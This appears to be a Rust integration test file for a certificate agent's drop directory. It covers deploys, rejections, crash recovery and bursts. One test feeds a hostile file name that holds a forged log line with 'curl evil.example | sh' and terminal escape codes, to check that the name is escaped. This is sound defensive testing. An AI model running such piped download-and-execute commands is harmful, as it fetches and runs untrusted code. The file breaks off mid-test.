//! The drop directory, end to end: the real agent watching a real
//! directory, producers simulated the way `docs/drop-directory.md` tells
//! them to write (rename in, write in place, fill a directory), and the
//! real `certctl` to read events and status.
//!
//! Settle is short (200ms) so the file stays fast; nothing asserts a
//! duration: every wait polls with a deadline.

use std::io::Write as _;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use nix::sys::signal::Signal;

use crate::support::assert::{arg, snapshot};
use crate::support::drop::{
    DROP_TIMEOUT, Watcher, drop_entries, logged_finals, rejected, rename_in, vm_hwm_kib, wait_idle,
    wait_idle_for, write_slowly,
};
use crate::support::pki::{self, Ca, Leaf};
use crate::support::{AgentProc, TestEnv, toml_array};

const SETTLE: &str = "\"200ms\"";

/// An env with `settle = 200ms` and a `file` target `app`; returns its dir.
fn app_env() -> (TestEnv, PathBuf) {
    let mut env = TestEnv::new();
    env.agent_option("settle", SETTLE);
    let dir = env.file_target("app", "");
    (env, dir)
}

fn cert_of(dir: &Path) -> String {
    std::fs::read_to_string(dir.join("cert.pem")).unwrap_or_default()
}

/// The `last_drop` of target `name` in a status document.
fn last_drop<'a>(status: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    let t = status["targets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == name)
        .unwrap_or_else(|| panic!("no target {name} in {status}"));
    &t["last_drop"]
}

/// Exactly one deploy of `app`, of `leaf`, and the drop removed.
fn assert_one_deploy_of(env: &TestEnv, w: &Watcher, dir: &Path, leaf: &Leaf) {
    let finals = w.wait_finals("app", 1);
    assert_eq!(finals.len(), 1, "{finals:#?}");
    assert_eq!(finals[0]["drop"]["outcome"], "removed", "{finals:#?}");
    assert_eq!(finals[0]["drop"]["cert_sha256"], leaf.sha256_hex.as_str());
    let deploys = w.deploys("app");
    assert_eq!(deploys.len(), 1, "{deploys:#?}");
    assert_eq!(deploys[0]["result"]["outcome"], "deployed");
    assert_eq!(
        deploys[0]["result"]["cert_sha256"],
        leaf.sha256_hex.as_str()
    );
    assert_eq!(
        finals[0]["drop"]["results"][0]["deploy_id"],
        deploys[0]["deploy_id"]
    );
    assert_eq!(cert_of(dir), leaf.fullchain_pem());
    assert!(rejected(env).is_empty(), "nothing may be rejected");
}

// === the three ways a drop arrives ===

#[test]
fn a_bundle_renamed_in_is_deployed_once_and_removed() {
    let (env, dir) = app_env();
    let agent = env.spawn_agent();
    let w = Watcher::start(&env, &agent);
    let leaf = pki::issue_cert(&["app.test"]);
    let path = rename_in(&env, "app.pem", leaf.bundle_pem());

    let status = wait_idle(&env, &agent);
    assert_one_deploy_of(&env, &w, &dir, &leaf);
    let last = last_drop(&status, "app");
    assert_eq!(last["outcome"], "removed", "{status}");
    assert_eq!(last["path"], arg(&path));
    assert_eq!(last["form"], "file");
    assert_eq!(status["agent"]["drop_dir"], arg(&env.drop_dir()));
    // The log names the target and the drop for every outcome.
    let log = agent.log();
    assert!(
        log.lines().any(|l| l.contains("drop_outcome=removed")
            && l.contains("target=app")
            && l.contains(arg(&path))),
        "{log}"
    );
    // And `certctl watch` renders drop events for people too.
    let human = env.ctl(&["status"]);
    assert!(human.stdout.contains("LAST DROP"), "{human}");
    assert!(human.stdout.contains("app: last drop:"), "{human}");
}

#[test]
fn a_bundle_written_in_place_slowly_is_taken_once_after_it_settles() {
    let mut env = TestEnv::new();
    // Pauses of 250ms against a settle of 2s: a take before the end would
    // read a torn bundle and reject it.
    env.agent_option("settle", "\"2s\"");
    let dir = env.file_target("app", "");
    let agent = env.spawn_agent();
    let w = Watcher::start(&env, &agent);
    let leaf = pki::issue_cert(&["app.test"]);
    write_slowly(
        &env.drop_dir().join("app.pem"),
        leaf.bundle_pem().as_bytes(),
        6,
        Duration::from_millis(250),
    );
    wait_idle(&env, &agent);
    assert_one_deploy_of(&env, &w, &dir, &leaf);
}

#[test]
fn a_directory_with_the_key_first_and_the_cert_a_second_later_deploys_the_pair() {
    let (env, dir) = app_env();
    let agent = env.spawn_agent();
    let w = Watcher::start(&env, &agent);
    let leaf = pki::issue_cert(&["app.test"]);
    let drop = env.drop_dir().join("app");
    std::fs::create_dir(&drop).unwrap();
    pki::write_mode(&drop.join("privkey.pem"), &leaf.key_pem, 0o600);
    std::thread::sleep(Duration::from_secs(1));
    // The key alone settled and was found incomplete: nothing deployed.
    let waiting = w.wait_drop("app", "waiting");
    assert_eq!(waiting["drop"]["reason"], "incomplete");
    assert_eq!(waiting["drop"]["form"], "directory");
    assert!(w.deploys("app").is_empty());
    assert!(cert_of(&dir).is_empty());
    // One file for leaf and chain: no gap between two writes to settle in.
    pki::write_mode(&drop.join("fullchain.pem"), &leaf.fullchain_pem(), 0o644);

    wait_idle(&env, &agent);
    assert_one_deploy_of(&env, &w, &dir, &leaf);
    assert_eq!(
        std::fs::read_to_string(dir.join("key.pem")).unwrap(),
        leaf.key_pem
    );
}

#[test]
fn writers_temp_files_are_left_alone() {
    let (env, dir) = app_env();
    let agent = env.spawn_agent();
    let w = Watcher::start(&env, &agent);
    let temps = [
        "app.pem.tmp",
        ".app.pem.Xa81Zq",
        ".#app.pem",
        "app.pem~",
        "#app.pem#",
    ];
    for t in temps {
        std::fs::write(env.drop_dir().join(t), "half a bundle").unwrap();
    }
    let leaf = pki::issue_cert(&["app.test"]);
    rename_in(&env, "app.pem", leaf.bundle_pem());
    wait_idle(&env, &agent);
    assert_one_deploy_of(&env, &w, &dir, &leaf);
    for t in temps {
        assert_eq!(
            std::fs::read_to_string(env.drop_dir().join(t)).unwrap(),
            "half a bundle",
            "{t} was touched"
        );
    }
}

// === rejections ===

/// Drops what `setup` writes for target `app` (after a first deploy by the
/// CLI) and checks it was rejected with `code`, the reason text names the
/// problem (`needle`), and the target was not touched. Returns the env
/// (its agent stopped), the reason text and the last status.
fn assert_rejected(
    setup: impl FnOnce(&TestEnv),
    code: &str,
    needle: &str,
) -> (TestEnv, String, serde_json::Value) {
    let (env, dir) = app_env();
    let agent = env.spawn_agent();
    let before_leaf = pki::issue_cert(&["app.test"]);
    let f = env.inputs(&before_leaf, "before");
    env.ctl(&["deploy", "app", "--cert", arg(&f.bundle)])
        .assert_code(0);
    let before = snapshot(&dir);
    let status = env.ctl(&["--json", "status", "app"]).json();
    let deploy_before = status["targets"][0]["last"]["deploy_id"].clone();

    setup(&env);
    let status = wait_idle(&env, &agent);
    let rejected = rejected(&env);
    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
    let (path, reason) = &rejected[0];
    assert!(
        reason.contains(&format!("reason:   {code}\n")),
        "expected reason {code}:\n{reason}"
    );
    assert!(reason.contains(needle), "{needle:?} not in:\n{reason}");
    assert!(reason.contains("retry:    fix the cause, then move it back: mv "));
    assert!(
        std::fs::symlink_metadata(path).is_ok(),
        "the drop itself is kept"
    );
    // Nothing deployed: the target and its last deploy are as before.
    assert_eq!(snapshot(&dir), before);
    assert_eq!(status["targets"][0]["last"]["deploy_id"], deploy_before);
    (env, reason.clone(), status)
}

#[test]
fn garbage_is_rejected_with_a_reason() {
    let mut junk = Vec::new();
    for i in 0u32..4096 {
        junk.push((i.wrapping_mul(2_654_435_761) >> 13) as u8);
    }
    let (env, _, status) = assert_rejected(
        |env| {
            rename_in(env, "app.pem", &junk);
        },
        "bad_pem",
        "not valid PEM",
    );
    let last = last_drop(&status, "app");
    assert_eq!(last["outcome"], "rejected");
    assert_eq!(last["reason"], "bad_pem");
    assert!(
        last["rejected_path"]
            .as_str()
            .unwrap()
            .starts_with(arg(&env.state_dir().join("rejected")))
    );
}

#[test]
fn a_key_that_does_not_match_is_rejected() {
    let leaf = pki::issue_cert(&["app.test"]);
    let other = pki::issue_cert(&["other.test"]);
    let bundle = format!("{}{}{}", other.key_pem, leaf.cert_pem, leaf.chain_pem);
    assert_rejected(
        |env| {
            rename_in(env, "app.pem", &bundle);
        },
        "key_mismatch",
        "does not match",
    );
}

#[test]
fn an_expired_leaf_is_rejected() {
    let leaf = Ca::root("root")
        .intermediate("int")
        .leaf(&["app.test"])
        .expired()
        .issue();
    assert_rejected(
        |env| {
            rename_in(env, "app.pem", leaf.bundle_pem());
        },
        "expired",
        "expired on",
    );
}

#[test]
fn a_drop_no_target_takes_is_rejected() {
    let leaf = pki::issue_cert(&["app.test"]);
    let (_, reason, _) = assert_rejected(
        |env| {
            rename_in(env, "nosuch.pem", leaf.bundle_pem());
        },
        "unknown_target",
        "no target takes drop \"nosuch\"",
    );
    assert!(reason.contains("drop names taken: app"), "{reason}");
}

#[test]
fn a_symlink_to_a_file_outside_is_not_followed() {
    let leaf = pki::issue_cert(&["app.test"]);
    let outside = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(outside.path(), leaf.bundle_pem()).unwrap();
    let target = outside.path().to_owned();
    let (env, _, _) = assert_rejected(
        |env| {
            symlink(&target, env.drop_dir().join("app.pem")).unwrap();
        },
        "symlink",
        "symbolic link",
    );
    // The link was moved as a link; what it pointed to is untouched.
    let (moved, _) = &rejected(&env)[0];
    assert_eq!(std::fs::read_link(moved).unwrap(), target);
    assert_eq!(
        std::fs::read_to_string(outside.path()).unwrap(),
        leaf.bundle_pem()
    );
}

#[test]
fn an_oversized_file_is_rejected() {
    let leaf = pki::issue_cert(&["app.test"]);
    // A valid bundle drowned in text: over the 1 MiB limit, never parsed.
    let mut big = leaf.bundle_pem();
    let line = "# padding padding padding padding padding padding padding padding\n";
    while big.len() <= 1024 * 1024 {
        big.push_str(line);
    }
    assert_rejected(
        |env| {
            rename_in(env, "app.pem", &big);
        },
        "too_large",
        "more than the 1048576-byte limit",
    );
}

#[test]
fn drop_owners_refuses_files_of_other_owners() {
    let (mut env, dir) = app_env();
    // A numeric id nobody here uses: the test's own files are not its.
    let me = nix::unistd::geteuid().as_raw();
    let my_gid = nix::unistd::getegid().as_raw();
    let allowed = (me.max(my_gid) + 4242).to_string();
    env.agent_option("drop_owners", &toml_array(&[allowed.as_str()]));
    let agent = env.spawn_agent();
    rename_in(&env, "app.pem", pki::issue_cert(&["app.test"]).bundle_pem());
    wait_idle(&env, &agent);
    let rejected = rejected(&env);
    assert_eq!(rejected.len(), 1, "{rejected:#?}");
    assert!(
        rejected[0].1.contains("reason:   owner\n"),
        "{}",
        rejected[0].1
    );
    assert!(rejected[0].1.contains(&allowed), "{}", rejected[0].1);
    assert!(cert_of(&dir).is_empty());
}

// === restarts and crashes ===

#[test]
fn a_drop_written_while_the_agent_was_stopped_is_deployed_at_start() {
    let (env, dir) = app_env();
    let leaf = pki::issue_cert(&["app.test"]);
    // Also written in place, not renamed: start-up takes it once settled.
    std::fs::write(env.drop_dir().join("app.pem"), leaf.bundle_pem()).unwrap();
    let agent = env.spawn_agent();
    let status = wait_idle(&env, &agent);
    assert_eq!(cert_of(&dir), leaf.fullchain_pem());
    let last = last_drop(&status, "app");
    assert_eq!(last["outcome"], "removed", "{status}");
    assert_eq!(last["results"][0]["outcome"], "deployed");
}

#[test]
fn an_agent_killed_mid_deploy_of_a_drop_loses_nothing() {
    let mut env = TestEnv::new();
    env.agent_option("settle", SETTLE);
    // A slow reload keeps the deploy in flight long enough to kill it.
    let dir = env.file_target("app", "reload = [\"sleep\", \"2\"]\n");
    let mut agent = env.spawn_agent();
    let leaf = pki::issue_cert(&["app.test"]);
    rename_in(&env, "app.pem", leaf.bundle_pem());
    agent.wait_for_log("renamed into place", Duration::from_secs(30));
    agent.signal(Signal::SIGKILL);
    agent
        .wait_exit(Duration::from_secs(10))
        .expect("agent dies");

    // Invariant 6: the drop is still there (taken, not yet removed).
    let left = drop_entries(&env);
    assert_eq!(left.len(), 1, "{left:?}");
    assert!(
        left[0] == "app.pem" || left[0].ends_with(".app.pem"),
        "{left:?}"
    );

    let agent = env.spawn_agent();
    let status = wait_idle(&env, &agent);
    assert_eq!(cert_of(&dir), leaf.fullchain_pem());
    let last = last_drop(&status, "app");
    assert_eq!(last["outcome"], "removed", "{status}");
    // The files were committed before the kill: deploying again is a no-op
    // or, had the commit not happened, a deploy.
    let outcome = last["results"][0]["outcome"].as_str().unwrap();
    assert!(matches!(outcome, "unchanged" | "deployed"), "{status}");
    assert!(rejected(&env).is_empty());
    assert!(
        agent
            .log()
            .contains("found a drop taken before the agent stopped"),
        "{}",
        agent.log()
    );
}

#[test]
fn a_newer_bundle_beside_an_older_directory_wins_and_the_directory_is_kept() {
    let (env, dir) = app_env();
    let ca = Ca::root("root").intermediate("int");
    let old = ca.leaf(&["app.test"]).issue();
    let new = ca.leaf(&["app.test"]).issue();
    let d = env.drop_dir().join("app");
    std::fs::create_dir(&d).unwrap();
    pki::write_mode(&d.join("key.pem"), &old.key_pem, 0o600);
    pki::write_mode(&d.join("cert.pem"), &old.fullchain_pem(), 0o644);
    std::thread::sleep(Duration::from_millis(50));
    rename_in(&env, "app.pem", new.bundle_pem());
    // Both settled before the agent looks: they compete, the newest wins.
    std::thread::sleep(Duration::from_millis(400));
    let agent = env.spawn_agent();
    wait_idle(&env, &agent);
    assert_eq!(cert_of(&dir), new.fullchain_pem());
    let rejected = rejected(&env);
    assert_eq!(rejected.len(), 1, "{rejected:#?}");
    assert!(rejected[0].0.is_dir());
    assert!(
        rejected[0].1.contains("reason:   superseded\n"),
        "{}",
        rejected[0].1
    );
    assert!(rejected[0].1.contains("app.pem"), "{}", rejected[0].1);
}

// === coalescing and shared drops ===

#[test]
fn three_quick_drops_for_one_target_deploy_the_newest_and_lose_none() {
    let mut env = TestEnv::new();
    env.agent_option("settle", SETTLE);
    let dir = env.file_target("app", "reload = [\"sleep\", \"0.3\"]\n");
    let agent = env.spawn_agent();
    let w = Watcher::start(&env, &agent);
    let ca = Ca::root("root").intermediate("int");
    let leaves: Vec<Leaf> = (0..3).map(|_| ca.leaf(&["app.test"]).issue()).collect();
    // The recipe of the docs: temp files in the drop directory, renamed in.
    let temp = |i: usize| env.drop_dir().join(format!(".app.pem.{i}.tmp"));
    for (i, l) in leaves.iter().enumerate() {
        std::fs::write(temp(i), l.bundle_pem()).unwrap();
    }
    for i in 0..3 {
        std::fs::rename(temp(i), env.drop_dir().join("app.pem")).unwrap();
    }

    wait_idle(&env, &agent);
    let newest = &leaves[2];
    assert_eq!(cert_of(&dir), newest.fullchain_pem());
    let finals = w.wait_finals("app", 3);
    let outcomes: Vec<&str> = finals
        .iter()
        .map(|e| e["drop"]["outcome"].as_str().unwrap())
        .collect();
    assert_eq!(finals.len(), 3, "one final outcome per drop: {outcomes:?}");
    let removed = outcomes.iter().filter(|o| **o == "removed").count();
    let superseded = outcomes.iter().filter(|o| **o == "superseded").count();
    assert_eq!(removed + superseded, 3, "{outcomes:?}");
    let deploys = w.deploys("app");
    assert!(
        (1..=2).contains(&deploys.len()),
        "{} deploys: {deploys:#?}",
        deploys.len()
    );
    assert_eq!(deploys.len(), removed);
    assert_eq!(
        deploys.last().unwrap()["result"]["cert_sha256"],
        newest.sha256_hex.as_str()
    );
    // The log has the same record.
    let logged = logged_finals(&agent);
    assert_eq!(logged.values().sum::<usize>(), 3, "{logged:?}");
    assert_eq!(logged.get("superseded").copied().unwrap_or(0), superseded);
}

#[test]
fn one_drop_shared_by_two_targets_deploys_to_both() {
    let mut env = TestEnv::new();
    env.agent_option("settle", SETTLE);
    let postfix = env.file_target("postfix", "drop = \"mail\"\n");
    let dovecot = env.file_target("dovecot", "drop = \"mail\"\n");
    let agent = env.spawn_agent();
    let w = Watcher::start(&env, &agent);
    let leaf = pki::issue_cert(&["mail.test"]);
    rename_in(&env, "mail.pem", leaf.bundle_pem());

    let status = wait_idle(&env, &agent);
    assert_eq!(cert_of(&postfix), leaf.fullchain_pem());
    assert_eq!(cert_of(&dovecot), leaf.fullchain_pem());
    let mut ids = Vec::new();
    for t in ["postfix", "dovecot"] {
        let finals = w.wait_finals(t, 1);
        assert_eq!(finals.len(), 1, "{finals:#?}");
        let d = &finals[0]["drop"];
        assert_eq!(d["outcome"], "removed");
        assert_eq!(d["name"], "mail");
        assert_eq!(d["targets"], serde_json::json!(["postfix", "dovecot"]));
        let results = d["results"].as_array().unwrap();
        assert_eq!(results.len(), 2, "{d}");
        let deploys = w.deploys(t);
        assert_eq!(deploys.len(), 1, "{deploys:#?}");
        // The event for a target carries that target's deploy.
        assert_eq!(finals[0]["deploy_id"], deploys[0]["deploy_id"]);
        ids.push(deploys[0]["deploy_id"].as_str().unwrap().to_owned());
        assert_eq!(last_drop(&status, t)["outcome"], "removed");
    }
    assert_ne!(ids[0], ids[1], "each target its own deploy");
}

#[test]
fn a_target_added_by_sighup_takes_its_drops() {
    let (mut env, _) = app_env();
    let mut agent = env.spawn_agent();
    let leaf = pki::issue_cert(&["api.test"]);
    rename_in(&env, "api.pem", leaf.bundle_pem());
    wait_idle(&env, &agent);
    assert_eq!(rejected(&env).len(), 1);

    let api = env.file_target("api", "");
    env.write_config();
    agent.signal(Signal::SIGHUP);
    agent.wait_for_log("configuration reloaded", Duration::from_secs(10));
    rename_in(&env, "api.pem", leaf.bundle_pem());
    wait_idle(&env, &agent);
    assert_eq!(cert_of(&api), leaf.fullchain_pem());
    assert_eq!(rejected(&env).len(), 1, "only the first one");
    drop_agent(&mut agent);
}

fn drop_agent(agent: &mut AgentProc) {
    let status = agent.terminate();
    assert_eq!(status.code(), Some(0), "{}", agent.log());
}

// === a burst ===

#[test]
fn a_burst_of_1000_drops_across_100_targets_is_recorded_and_memory_stays_bounded() {
    const TARGETS: usize = 100;
    const ROUNDS: usize = 10;
    let mut env = TestEnv::new();
    env.agent_option("settle", SETTLE);
    let dirs: Vec<PathBuf> = (0..TARGETS)
        .map(|t| env.file_target(&format!("t{t:03}"), ""))
        .collect();
    let agent = env.spawn_agent();

    // Every bundle prepared first, as temp files in the drop directory
    // (the recipe of the docs), then renamed in as fast as possible.
    let ca = Ca::root("root").intermediate("int");
    let temp = |t: usize, r: usize| env.drop_dir().join(format!(".t{t:03}.pem.{r}.tmp"));
    let mut newest = vec![String::new(); TARGETS];
    for r in 0..ROUNDS {
        for (t, newest) in newest.iter_mut().enumerate() {
            let leaf = ca.leaf(&[&format!("t{t:03}.test")]).issue();
            std::fs::write(temp(t, r), leaf.bundle_pem()).unwrap();
            *newest = leaf.fullchain_pem();
        }
    }

    let started = Instant::now();
    for r in 0..ROUNDS {
        for t in 0..TARGETS {
            std::fs::rename(temp(t, r), env.drop_dir().join(format!("t{t:03}.pem"))).unwrap();
        }
    }
    wait_idle_for(&env, &agent, Duration::from_secs(300));
    // Every drop has its final outcome in the record.
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut finals = logged_finals(&agent);
    while finals.values().sum::<usize>() < TARGETS * ROUNDS && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
        finals = logged_finals(&agent);
    }
    let took = started.elapsed();
    let hwm = vm_hwm_kib(agent.pid());
    let deploys = agent.log().matches("deploy requested origin=drop").count();
    let _ = writeln!(
        std::io::stderr(),
        "burst: {} drops across {TARGETS} targets done in {took:.2?}: {finals:?}, \
         {deploys} deploys, agent VmHWM {} KiB",
        TARGETS * ROUNDS,
        hwm
    );
    assert_eq!(
        finals.values().sum::<usize>(),
        TARGETS * ROUNDS,
        "every drop gets one final outcome: {finals:?}"
    );
    let removed = finals.get("removed").copied().unwrap_or(0);
    let superseded = finals.get("superseded").copied().unwrap_or(0);
    assert_eq!(removed + superseded, TARGETS * ROUNDS, "{finals:?}");
    assert_eq!(removed, deploys, "each deploy removed its drop");
    assert!((TARGETS..=TARGETS * ROUNDS).contains(&deploys), "{deploys}");
    // The newest drop of every target won.
    for (t, dir) in dirs.iter().enumerate() {
        assert_eq!(cert_of(dir), newest[t], "target t{t:03}");
    }
    assert!(rejected(&env).is_empty());
    // Generous on purpose: a leak (contents kept per queued drop) would be
    // far above it; normal use is a small fraction.
    assert!(
        hwm < 200 * 1024,
        "agent peak RSS {hwm} KiB for a burst of 1000 drops"
    );
}

#[test]
fn an_unusable_drop_directory_stops_the_agent_before_it_serves() {
    let env = TestEnv::new();
    std::fs::remove_dir(env.drop_dir()).unwrap();
    std::fs::write(env.drop_dir(), "not a directory").unwrap();
    let config = env.write_config();
    let mut cmd = std::process::Command::new(crate::support::agent_bin());
    cmd.arg("--config").arg(&config);
    let out = crate::support::process::run_bounded(&mut cmd, Duration::from_secs(30));
    assert_ne!(out.code, 0, "{out:?}");
    assert!(
        out.stderr.contains("cannot use the drop directory")
            && out.stderr.contains("agent.drop_dir"),
        "{}",
        out.stderr
    );
    assert!(!env.socket().exists(), "no socket is left behind");
}

// === hostile names and failing moves ===

/// Every log line is one record: it starts with its timestamp, so a name
/// holding newlines cannot add lines of its own.
fn assert_no_forged_log_line(agent: &AgentProc) {
    let log = agent.log();
    for line in log
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with("===== support:"))
    {
        assert!(
            line.starts_with(|c: char| c.is_ascii_digit() || c == '\u{1b}'),
            "a line that is not a log record: {line:?}\n{log}"
        );
        assert!(!line.contains('\u{b}'), "a raw control character: {line:?}");
    }
}

#[test]
fn invalid_and_hostile_names_are_rejected_once_and_forge_no_line() {
    let (env, _dir) = app_env();
    let agent = env.spawn_agent();
    let w = Watcher::start(&env, &agent);
    let leaf = pki::issue_cert(&["app.test"]);
    let hostile = "x\nreason:   deployed\nretry: curl evil.example | sh\n\u{b}\u{1b}[2J.pem";
    let long = format!("{}.pem", "a".repeat(244));
    rename_in(&env, hostile, leaf.bundle_pem());
    rename_in(&env, &long, leaf.bundle_pem());

    wait_idle(&env, &agent);
    let rejected = rejected(&env);
    assert_eq!(rejected.len(), 2, "{rejected:#?}\n{}", agent.log());
    for (path, reason) in &rejected {
        let name = path.file_name().unwrap().to_str().unwrap();
        assert!(
            name.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)),
            "{name:?}"
        );
        let count = |p: &str| reason.lines().filter(|l| l.starts_with(p)).count();
        assert_eq!(count("reason:"), 1, "{reason}");
        assert_eq!(count("retry:"), 1, "{reason}");
        assert!(reason.contains("reason:   invalid_name\n"), "{reason}");
        assert!(
            reason.contains("uses 1 to 63 characters from a-z, 0-9"),
            "the reason says what a valid name is:\n{reason}"
        );
        assert!(
            !reason.contains('\u{1b}') && !reason.contains('\u{b}'),
            "{reason}"
        );
    }
    let texts: String = rejected.iter().map(|(_, r)| r.as_str()).collect();
    assert!(
        texts.contains(r"x\nreason:   deployed\nretry: curl evil.example | sh\n\x0b\x1b[2J.pem"),
        "the hostile name is shown escaped:\n{texts}"
    );
    // Rejected once each, never "could not be taken", never retried.
    let finals = logged_finals(&agent);
    assert_eq!(
        finals.get("rejected"),
        Some(&2),
        "{finals:?}\n{}",
        agent.log()
    );
    assert_eq!(finals.len(), 1, "{finals:?}");
    assert!(
        !agent.log().contains("could not be taken"),
        "{}",
        agent.log()
    );
    assert_eq!(w.drops(None, "rejected").len(), 2);
    assert_no_forged_log_line(&agent);
    assert!(drop_entries(&env).is_empty());
}

#[test]
fn a_reason_file_that_cannot_be_written_for_a_while_is_retried_not_lost() {
    let (env, _dir) = app_env();
    // The first three reason files fail as when descriptors run out.
    let agent = env.spawn_agent_env(&[("CERTCTL_FAULT_DROP", "reason:EMFILE:3")]);
    let leaf = pki::issue_cert(&["app.test"]);
    rename_in(&env, "nosuch.pem", leaf.bundle_pem());
    wait_idle(&env, &agent);
    let rejected = rejected(&env);
    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
    assert!(rejected[0].1.contains("reason:   unknown_target\n"));
    let log = agent.log();
    assert_eq!(
        log.matches("and the move is tried again in").count(),
        3,
        "{log}"
    );
    assert!(
        log.contains("it stays in the drop directory as ") && log.contains("/.certctl-claimed."),
        "{log}"
    );
    assert_eq!(logged_finals(&agent).get("rejected"), Some(&1));
    assert_eq!(logged_finals(&agent).get("failed"), None);
}

#[test]
fn a_drop_that_cannot_be_moved_stays_in_the_drop_directory_until_a_restart() {
    let (env, _dir) = app_env();
    let mut agent = env.spawn_agent_env(&[("CERTCTL_FAULT_DROP", "move:EACCES:persist")]);
    let w = Watcher::start(&env, &agent);
    let leaf = pki::issue_cert(&["app.test"]);
    rename_in(&env, "nosuch.pem", leaf.bundle_pem());
    let deadline = Instant::now() + Duration::from_secs(60);
    while w.drops(None, "failed").is_empty() {
        assert!(
            Instant::now() < deadline,
            "no failed event:\n{}",
            agent.log()
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let failed = &w.drops(None, "failed")[0];
    let message = failed["message"].as_str().unwrap_or_default();
    // It says where the drop is, and that is where it is: taken in the
    // drop directory, with no reason file left in rejected/.
    let left = drop_entries(&env);
    assert_eq!(left.len(), 1, "{left:?}");
    assert!(left[0].starts_with(".certctl-claimed."), "{left:?}");
    assert!(
        message.contains(&format!(
            "stays in the drop directory as {}",
            arg(&env.drop_dir().join(&left[0]))
        )),
        "{message}"
    );
    let in_rejected: Vec<_> = std::fs::read_dir(env.state_dir().join("rejected"))
        .unwrap()
        .collect();
    assert!(in_rejected.is_empty(), "{in_rejected:?}");
    drop_agent(&mut agent);

    // Without the fault, the next start moves it aside with its reason.
    let agent = env.spawn_agent();
    wait_idle(&env, &agent);
    let rejected = rejected(&env);
    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
    assert!(rejected[0].1.contains("reason:   unknown_target\n"));
}

// === the drop directory itself ===

/// Polls `certctl --json status` until `drop_dir_watching` is `on`.
fn wait_watching(env: &TestEnv, agent: &AgentProc, on: bool) -> serde_json::Value {
    let deadline = Instant::now() + DROP_TIMEOUT;
    loop {
        let status = env.ctl(&["--json", "status"]).json();
        if status["agent"]["drop_dir_watching"] == on {
            return status;
        }
        assert!(
            Instant::now() < deadline,
            "drop_dir_watching never {on}: {}\n{}",
            status["agent"],
            agent.log()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

#[test]
fn a_replaced_drop_directory_is_watched_again_and_its_drops_deployed() {
    let (env, dir) = app_env();
    let agent = env.spawn_agent();
    wait_watching(&env, &agent, true);
    let drop_dir = env.drop_dir();
    let old = drop_dir.with_extension("old");

    // Moved away: not watching, and status, metrics and the human status
    // say so.
    std::fs::rename(&drop_dir, &old).unwrap();
    wait_watching(&env, &agent, false);
    let prom = env.ctl(&["status", "--prometheus"]);
    assert!(
        prom.stdout.contains("certctl_drop_dir_watching 0"),
        "{prom}"
    );
    let human = env.ctl(&["status"]);
    assert!(human.stdout.contains("drops: NOT WATCHING"), "{human}");

    // A new directory at the path: watched again by itself, and a drop
    // renamed into it is deployed.
    std::fs::create_dir(&drop_dir).unwrap();
    wait_watching(&env, &agent, true);
    let prom = env.ctl(&["status", "--prometheus"]);
    assert!(
        prom.stdout.contains("certctl_drop_dir_watching 1"),
        "{prom}"
    );
    let leaf = pki::issue_cert(&["app.test"]);
    rename_in(&env, "app.pem", leaf.bundle_pem());
    let status = wait_idle(&env, &agent);
    assert_eq!(cert_of(&dir), leaf.fullchain_pem());
    assert_eq!(last_drop(&status, "app")["outcome"], "removed", "{status}");
    // Nothing dropped into the old directory is taken any more.
    std::fs::write(old.join("app.pem"), leaf.bundle_pem()).unwrap();
    std::thread::sleep(Duration::from_millis(600));
    assert!(old.join("app.pem").exists());
    assert!(agent.log().contains("watching the drop directory again"));
}

// === retention and hard links ===

#[test]
fn rejected_drops_are_pruned_oldest_first_beyond_the_count_and_the_age() {
    let mut env = TestEnv::new();
    env.agent_option("settle", SETTLE);
    env.agent_option("rejected_keep", "3");
    env.agent_option("rejected_max_age", "\"2d\"");
    env.file_target("app", "");
    // Left by an earlier run: one drop older than the age, one recent.
    let rejected_dir = env.state_dir().join("rejected");
    std::fs::create_dir_all(&rejected_dir).unwrap();
    for name in [
        "20200101T000000.000Z-old.pem",
        "29990101T000000.000Z-future.pem",
    ] {
        std::fs::write(rejected_dir.join(name), b"x").unwrap();
        std::fs::write(rejected_dir.join(format!("{name}.reason")), b"r").unwrap();
    }
    let agent = env.spawn_agent();
    // At start: the old one is gone by age.
    let names = |env: &TestEnv| -> Vec<String> {
        let mut v: Vec<String> = rejected(env)
            .into_iter()
            .map(|(p, _)| p.file_name().unwrap().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    };
    assert_eq!(names(&env), ["29990101T000000.000Z-future.pem"]);
    // Four rejections: the newest three are kept with their reasons (the
    // one stamped in the future sorts newest and stays too).
    for i in 0..4 {
        rename_in(&env, &format!("junk{i}.pem"), b"junk");
        wait_idle(&env, &agent);
    }
    let left = names(&env);
    assert_eq!(left.len(), 3, "{left:?}\n{}", agent.log());
    assert!(left.iter().any(|n| n.ends_with("-junk3.pem")), "{left:?}");
    assert!(left.iter().any(|n| n.ends_with("-junk2.pem")), "{left:?}");
    assert!(!left.iter().any(|n| n.ends_with("-junk0.pem")), "{left:?}");
    // No reason file without its drop.
    let all = std::fs::read_dir(&rejected_dir).unwrap().count();
    assert_eq!(all, 6, "{left:?}");
    assert!(agent.log().contains("pruned "), "{}", agent.log());
}

#[test]
fn a_hard_linked_drop_is_rejected_unread() {
    let leaf = pki::issue_cert(&["app.test"]);
    let (env, _, _) = assert_rejected(
        |env| {
            // A file with another name (someone else's, linked in).
            let other = env.drop_dir().join(".theirs.tmp");
            std::fs::write(&other, leaf.bundle_pem()).unwrap();
            std::fs::hard_link(&other, env.drop_dir().join("app.pem")).unwrap();
        },
        "hard_link",
        "has 2 hard links",
    );
    // The other name is left alone.
    assert!(env.drop_dir().join(".theirs.tmp").exists());
}

#[test]
fn a_drop_directory_moved_away_and_back_mid_deploy_deploys_its_drop_once() {
    let mut env = TestEnv::new();
    env.agent_option("settle", SETTLE);
    // A slow reload keeps the deploy in flight while the directory moves.
    let dir = env.file_target("app", "reload = [\"sleep\", \"2\"]\n");
    let agent = env.spawn_agent();
